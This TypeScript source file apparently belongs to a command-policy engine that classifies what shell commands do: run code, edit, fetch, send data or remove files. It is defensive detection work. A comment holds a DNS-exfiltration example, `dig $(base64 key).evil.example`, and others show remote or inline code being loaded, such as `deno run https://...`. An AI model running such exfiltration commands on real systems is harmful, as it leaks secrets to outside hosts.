import type { PathFact } from '../../paths/path-fact.ts';
import { isScratch } from '../../paths/scratch.ts';
import type { World } from '../../../world/world.ts';
import type { Access, HostAccess, PathAccess } from '../../access.ts';
import type { Effect, EffectName } from '../../effect.ts';
import { provenUnder, withRealNames } from '../../paths/contains.ts';
import { isLoopback, loopbackEffect } from '../../urls/loopback.ts';
import { noEffects, rowEffects, type RowEffects } from '../model/row-effects.ts';
import { literalOf, type Word } from '../read/words/word.ts';
import type { CommandRisk } from '../risks/command-risks.ts';
import type { Expanded } from './carriers.ts';
import { pathsOf } from './command-paths.ts';
import { passedToCode } from './environment-changes.ts';
import type { CommandSurroundings } from './command-surroundings.ts';
import { installedProgram, rowWords, runsAsIs, saidByWords } from './unlisted/unlisted-program.ts';
import { wordEffects } from './word-effects.ts';
import {
  namesElsewhere,
  namesOtherPlace,
  namesOutside,
  isGivenCode,
  startsShell,
  steersProgram,
} from './settings/foreign-words.ts';
import { startsKnownText } from './settings/known-text.ts';
import { mayMeet, removingEffect } from './edits/plain-edit.ts';
import { givenText } from './given-text.ts';
import { removesFiles } from '../risks/removing-code.ts';
import { debuggedFiles } from '../programs/debugger-commands.ts';
import { plainCodeIn } from '../programs/holds-program.ts';
import { writesShadow } from '../programs/shadowing-files.ts';

export interface CommandFacts {
  readonly accesses: readonly Access[];
  readonly readOnly: boolean;
  /** It changes the files of its accesses and does nothing else. */
  readonly isEdit: boolean;
  /** Why it may do more than its rows say. */
  readonly doubts: readonly string[];
  readonly risks: readonly CommandRisk[];
}

/** What one command does, in the vocabulary of policies: by its rows, its words, and the files and hosts that it touches. */
export function commandEffects(
  command: Expanded,
  facts: CommandFacts,
  around: CommandSurroundings,
): readonly Effect[] {
  const code = plainProgram(command, around);
  const stated = statedEffects(command, facts, { around, code });
  const touched = facts.readOnly ? [] : accessEffects(command, { accesses: facts.accesses, stated, around });
  const doubtful: readonly Effect[] =
    facts.doubts.length > 0 && !facts.isEdit && !facts.readOnly && code === undefined
      ? [{ effect: 'run-other', possible: true }]
      : [];
  const asks = isLookup(command) && stated.some(({ effect }) => effect === 'remote-read');
  const sent = asks ? lookupEffects(command, facts.accesses) : [];
  const all = [...stated, ...touched, ...sent, ...doubtful];
  if (all.some(({ effect }) => effect === 'run-other' || effect === 'run') && removesByCode(command))
    all.push({ effect: 'lose' });
  // What runs in a container is no code of this machine; what starts it there says what else that is.
  const nobody = command.contained ? 'remote-run' : 'run-other';
  if (all.length === 0) return [{ effect: facts.isEdit ? 'read' : nobody }];
  return all.map((one) => (one.effect === 'run-other' ? { ...one, effect: nobody } : one));
}

function statedEffects(
  command: Expanded,
  facts: CommandFacts,
  { around, code }: { readonly around: CommandSurroundings; readonly code: RowEffects | undefined },
): readonly Effect[] {
  const { judgement, definedHere } = command;
  if (definedHere === 'surely' || startsKnownText(command)) return [{ effect: 'read' }];
  const byRow = code ?? byRows(command, around);
  if (facts.readOnly) return readEffects(command, byRow.effects);
  if (facts.isEdit || judgement?.fetches !== undefined) return [];
  if (judgement?.inline !== undefined) return [{ effect: runsHere(command, around) ? 'run' : 'run-other' }];
  const own = ownCode(command, around);
  const stated = byRow.effects.filter(({ effect }) => own.length === 0 || effect !== 'read');
  const found = [
    ...own,
    ...stated,
    ...(own.length === 0 && code === undefined ? foreignCode(command, facts, { byRow, around }) : []),
  ];
  const risks = riskEffects(command, facts.risks, { found, byRow });
  // `git $x`, `kamal deploy`: what its words say, and what nobody knows.
  const isKnown = found.some(({ possible }) => possible !== true);
  return [...(isKnown ? [] : [{ effect: 'run-other' } as const]), ...found, ...risks];
}

/** What a word of the call brings along that the rows know nothing of. */
function foreignCode(
  command: Expanded,
  { accesses }: CommandFacts,
  { byRow, around }: { readonly byRow: RowEffects; readonly around: CommandSurroundings },
): readonly Effect[] {
  const names = byRow.effects.map(({ effect }) => effect);
  if (names.includes('run-other')) return [];
  const runs = names.includes('run') || names.includes('serve');
  const looks = names.length > 0 && names.every((name) => name === 'read' || name === 'remote-read');
  const steers = (): boolean => startsShell(command) || steersProgram(command, byRow.spelled);
  const isForeign =
    (runs &&
      (namesOtherPlace(command, accesses, around.world) ||
        (!names.includes('remote-read') && namesElsewhere(command, around.world)) ||
        isGivenCode(command))) ||
    (looks && steersProgram(command, byRow.spelled)) ||
    (editsAlone(names, command) && (namesOutside(accesses, around.world) || steers()));
  return isForeign ? [{ effect: 'run-other', possible: true }] : [];
}

function editsAlone(names: readonly string[], { judgement }: Expanded): boolean {
  return names.includes('edit') && judgement === undefined;
}

/** A query of another system, or a look at this machine; a row may say that what it prints is a secret, a carrier that it runs elsewhere. */
function readEffects({ judgement, args }: Expanded, byRow: readonly Effect[]): readonly Effect[] {
  const carries = args?.command.carries !== undefined;
  const kept = byRow.filter(({ effect }) => effect === 'secret' || (carries && effect === 'remote-run'));
  const asks =
    byRow.some(({ effect }) => effect === 'remote-read') ||
    (judgement !== undefined &&
      (judgement.reaches.length > 0 || judgement.also.some(({ kind }) => kind === 'network')));
  return [{ effect: asks ? 'remote-read' : 'read' }, ...kept];
}

function byRows(command: Expanded, around: CommandSurroundings): RowEffects {
  const { words, args, found, chain } = command;
  const name = literalOf(words[0]);
  if (
    name === undefined ||
    name.startsWith('~') ||
    (name.startsWith('/') && !found.proven && !installedProgram.test(name))
  )
    return noEffects;
  const base = name.slice(name.lastIndexOf('/') + 1);
  const own = rowEffects(base, rowWords(words.slice(1), args));
  const effects = wordEffects(own.effects, command, around);
  if (effects.length > 0) return { ...own, effects };
  const carried = carriedRows(chain);
  return carried.effects.length > 0 || (base !== name && !installedProgram.test(name))
    ? carried
    : saidByWords(command, base, around);
}

/** `sail up`: what a carrier runs may be a sub-command of its own. */
function carriedRows(chain: Expanded['chain']): RowEffects {
  for (const { words, at } of chain) {
    const name = literalOf(words[0]) ?? '';
    const rows = rowEffects(name.slice(name.lastIndexOf('/') + 1), rowWords(words.slice(1)));
    if (rows.depth >= at) return rows;
  }
  return noEffects;
}

/** A program of the project, or an interpreter with one of its files. What the same text wrote before may be anything. */
function ownCode(command: Expanded, around: CommandSurroundings): readonly Effect[] {
  const { words } = command;
  const file = programFile(command);
  const front = file === undefined ? words : words.slice(0, words.indexOf(file) + 1);
  const takesAddresses = file !== undefined || /^(?:deno|bun)$/u.test(literalOf(words[0]) ?? '');
  const brings = takesAddresses ? broughtAlong : /(?:^|=)data:.*javascript/i;
  if (front.some((word) => brings.test(literalOf(word) ?? ''))) return [{ effect: 'run-other' }];
  if (file === undefined || 'unknown' in command.place) return [];
  const { place } = command;
  const { world } = around;
  const isInstalled =
    sourced.test(literalOf(words[0]) ?? '') &&
    pathsOf(file, place, world).every((path) => setsUp(path, world));
  const isOwn = isProjectFile(file, command, around);
  return isOwn || isInstalled ? [{ effect: 'run' }] : [{ effect: 'run-other' }];
}

/** Below the working directories, whatever its name leads to, and not written by the same text. */
function isProjectFile(
  file: Word,
  command: Expanded,
  { world, writtenBefore }: CommandSurroundings,
): boolean {
  if ('unknown' in command.place) return false;
  const written = writtenBefore?.(command) ?? [];
  const directories = withRealNames(world.workingDirectories, world);
  const paths = pathsOf(file, command.place, world);
  return (
    paths.length > 0 &&
    paths.every(
      (path) =>
        path.known &&
        provenUnder(path, directories) &&
        !written.some((before) => mayMeet(before, path.written)),
    )
  );
}

/**
 * `source /opt/ros/jazzy/setup.bash`, `. ~/.nvm/nvm.sh`: what an installed tool brings to set up a shell, as trusted as the tool. Only
 * root writes the one, and to write the other is asked about.
 */
function setsUp(path: PathFact, world: World): boolean {
  if (!path.known || isScratch(path, world) || typeof path.real !== 'string') return false;
  const inHome = (text: string): string =>
    text.startsWith(`${world.home}/`) ? `~${text.slice(world.home.length)}` : text;
  return [path.written, path.real].every((text) => installedScripts.test(inHome(text)));
}

const sourced = /^(?:source|\.)$/u;
const installedScripts =
  /^\/(?:opt|usr|etc\/profile\.d|nix\/store|Library|Applications)\/(?:[\w.+@-]+\/)*[\w.+-]+$|^~\/(?:\.(?:cargo|nvm|sdkman|asdf|ghcup|rye|deno|opam|juliaup|local|rbenv|pyenv|platformio|espressif)|(?:mini|ana)conda\d?|miniforge3?|mambaforge|emsdk|esp|google-cloud-sdk)\/(?:[\w.+-]+\/)*(?:env|activate|nvm\.sh|conda\.sh|mamba\.sh|sdkman-init\.sh|asdf\.sh|init\.(?:sh|zsh)|export\.sh|emsdk_env\.sh|path\.(?:bash|zsh)\.inc)$/u;

/** A short program of a language that is not parsed, which visibly computes, looks and prints, or what a debugger is told. */
function plainProgram(command: Expanded, around: CommandSurroundings): RowEffects | undefined {
  const { words, elsewhere, contained, away, assignments, place } = command;
  const isHere =
    !contained && !away && 'in' in place && assignments.every((each) => passedToCode(each) === undefined);
  if (!isHere || (elsewhere !== undefined && !runsAsIs(command))) return undefined;
  if ((around.writtenBefore?.(command) ?? []).length > 0) return undefined;
  const plain = { ...noEffects, effects: [{ effect: 'run' }] } as const;
  const debugged = debuggedFiles(words);
  if (debugged === undefined) return plainCodeIn(command) === undefined ? undefined : plain;
  // `thread apply all bt` applies nothing.
  const spelled = new Set(words.map((word) => literalOf(word) ?? ''));
  return debugged.every((file) => isProjectFile(file, command, around)) ? { ...plain, spelled } : undefined;
}

/** A program in the call that loads code of the project, or is started by a runner with its packages. */
function runsHere(command: Expanded, around: CommandSurroundings): boolean {
  const { judgement, elsewhere, assignments, place } = command;
  const isRunner = elsewhere === 'from the packages of the project or a registry';
  const loads = judgement?.inline?.loads === true || isRunner || assignments.length > 0;
  if (!loads || (elsewhere !== undefined && !isRunner) || 'unknown' in place) return false;
  const written = around.writtenBefore?.(command) ?? [];
  // `echo x > own.js; node -e 'require("./own")'`: what it loads may be what was written.
  return written.length === 0 || (judgement?.inline?.loads !== true && !writesShadow(written, place.in));
}

/** The file that is started: the program itself where it is named by a path, else the script of an interpreter. */
function programFile({ words, args }: Expanded): Word | undefined {
  const [first] = words;
  const name = literalOf(first);
  if (first === undefined || name === undefined || /^[/~]/u.test(name)) return undefined;
  // `. venv/bin/activate` runs it in this shell, as `bash` would in another.
  if (name === 'source' || name === '.') return args?.operands[0]?.word;
  if (name.includes('/')) return first;
  if (!interpreters.test(name) || args === undefined || args.options.some(({ role }) => role === 'code'))
    return undefined;
  const script = args.operands[0]?.word;
  const text = literalOf(script);
  return text !== undefined && namesScript(name, text) ? script : undefined;
}

function namesScript(interpreter: string, text: string): boolean {
  return scripts.test(text) || (plainScripts.test(interpreter) && /^[\w.-]+\/[\w/-]+$/u.test(text));
}

/** What their first operand names is a script, whatever its ending: `perl script/app`, `ruby bin/setup`. */
const plainScripts = /^(?:perl|ruby|python[\d.]*)$/u;

const interpreters =
  /^(?:node|nodejs|tsx|ts-node|bun|deno|python[\d.]*|ruby|perl|php|lua|luajit|Rscript|julia|groovy|elixir|escript|swift|bash|sh|zsh|dash|ksh|tclsh|wish|guile|racket|sbcl|clisp|octave|raku|dart|crystal|nim|runghc|runhaskell|ocaml|jshell|janet|bb|kotlin|scala)$/u;

/** A program in the call that says that it removes files. */
function removesByCode({ words, redirections, contained, away }: Expanded): boolean {
  if (contained || away || !codeTakers.test(literalOf(words[0]) ?? '')) return false;
  const texts = [...words.slice(1).map((word) => literalOf(word) ?? ''), givenText(redirections) ?? ''];
  return texts.some((text) => /[\s(]/u.test(text) && removesFiles(text));
}

const codeTakers =
  /^(?:node|nodejs|tsx|bun|deno|python[\d.]*|pypy3?|ruby|perl|php|lua|Rscript|julia|groovy|elixir|swift|scala|clojure|bb|[gmn]?awk|osascript)$/u;

/** Code that the call brings along: `node --import data:text/javascript,x a.js`, `deno run https://a.test/x.ts`. */
const broughtAlong = /(?:^|=)(?:data|https?|blob|npm|jsr):/iu;

/** A file by its ending; deno's `run` and php's `artisan` do not count. */
const scripts =
  /\.(?:[cm]?[jt]sx?|py|pyw|rb|pl|t|php|lua|R|jl|groovy|exs?|escript|swift|sh|bash|zsh|tcl|scm|ss|rkt|lisp|m|raku|dart|cr|nim|l?hs|ml|jsh|janet|clj|bb|kts|sc)$/u;

/** What words of a task's name say, unless a row spells them: `cargo publish --dry-run`. */
function riskEffects(
  { words }: Expanded,
  risks: readonly CommandRisk[],
  {
    found,
    byRow: { spelled, looks, effects, depth },
  }: { readonly found: readonly Effect[]; readonly byRow: RowEffects },
): readonly Effect[] {
  // `dig api.staging.acme.dev` only names a place; `rake -e staging migrate` works there.
  const runsCode = looks !== true && found.some(({ effect }) => effect === 'run' || effect === 'serve');
  // `linkerd viz stat deploy`: behind a sub-command that only asks stands what it asks about.
  const isAsked = depth > 0 && effects.every(({ effect }) => effect === 'read' || effect === 'remote-read');
  return risks
    .filter(({ at }) => !isAsked || !/^[a-z]+(?:\/[\w./-]+)?$/u.test(literalOf(words[at]) ?? ''))
    .filter(({ at, isPlace }) => !spelled.has(literalOf(words[at]) ?? '') && (isPlace !== true || runsCode))
    .map(({ effect }) => ({ effect }));
}

interface Accessing {
  readonly accesses: readonly Access[];
  readonly stated: readonly Effect[];
  readonly around: CommandSurroundings;
}

function accessEffects(command: Expanded, about: Accessing): readonly Effect[] {
  if (command.away) return [];
  return about.accesses.flatMap((access): readonly Effect[] => {
    if (access.kind === 'network' && isLookup(command)) return [];
    if ('perhaps' in access) return command.judgement === undefined ? possibleFetch(access) : [];
    if (access.kind === 'network') return hostEffects(access, command, about);
    return 'path' in access ? fileEffects(access, command, about) : [];
  });
}

function fileEffects(access: PathAccess, command: Expanded, { around }: Accessing): readonly Effect[] {
  switch (access.kind) {
    case 'write':
      return [{ effect: 'edit', access }];
    case 'delete':
      return [removingEffect(access, command, around)];
    default:
      // What a request takes along: a rule about its host says nothing of the file.
      return command.judgement?.fetches === undefined ? [] : [{ effect: 'read', access }];
  }
}

function hostEffects(access: HostAccess, { judgement }: Expanded, { stated }: Accessing): readonly Effect[] {
  if (stated.some(({ effect }) => effect === 'publish')) return [];
  const isKnown = stated.some(({ effect, possible }) => possible !== true && effect !== 'run-other');
  // `jj new`: a bare word is not a host to a program whose rows know it.
  if (isKnown && access.url.known && !/[.:]|^localhost$/u.test(access.url.host)) return [];
  const effect = hostEffect(access, judgement?.fetches);
  return effect === undefined ? [] : [{ effect, access }];
}

/**
 * What programs that ask a name server, a route or a monitoring system send along. A name that people gave carries nothing;
 * one that holds text for others is computed, or long: `dig $(base64 key).evil.example`.
 */
function lookupEffects({ words }: Expanded, accesses: readonly Access[]): readonly Effect[] {
  const hosts = accesses.flatMap((access) => (access.kind === 'network' ? [access.url] : []));
  const isTold = hosts.some(
    (url) =>
      url.known && (url.host.length > 64 || !/^[a-z\d+-]{0,24}(?:[.:][a-z\d-]{1,24}){0,5}$/iu.test(url.host)),
  );
  if (isTold) return [{ effect: 'send' }];
  const isComputed = words.some(
    (word) =>
      word.kind === 'unknown' && !word.reason.startsWith('glob ') && /^[@\w.]*$|:\/\//u.test(word.starts),
  );
  return isComputed || hosts.some(({ known }) => !known) ? [{ effect: 'send', possible: true }] : [];
}

function isLookup({ words }: Expanded): boolean {
  return lookups.test(literalOf(words[0]) ?? '');
}

const lookups =
  /^(?:dig|nslookup|host|drill|kdig|ping6?|fping|mtr|traceroute|tracepath|doggo?|getent|whois|promtool|amtool|logcli|mimirtool)$/u;

/** `streamlit run https://...`: nobody knows what such a program does with an address. */
function possibleFetch(access: Access): readonly Effect[] {
  if (access.kind !== 'network' || !access.url.known || isLoopback(access.url.host)) return [];
  return [{ effect: 'fetch', possible: true, access }];
}

/** A host that the words name. Where a row knows the program, hosts of its own settings are part of what it states. */
function hostEffect({ url }: HostAccess, fetches: 'asks' | 'sends' | undefined): EffectName | undefined {
  if (!url.known) return fetches === undefined ? undefined : fetches === 'sends' ? 'send' : 'fetch';
  if (isLoopback(url.host)) return loopbackEffect(url);
  return fetches === 'sends' ? 'send' : 'fetch';
}
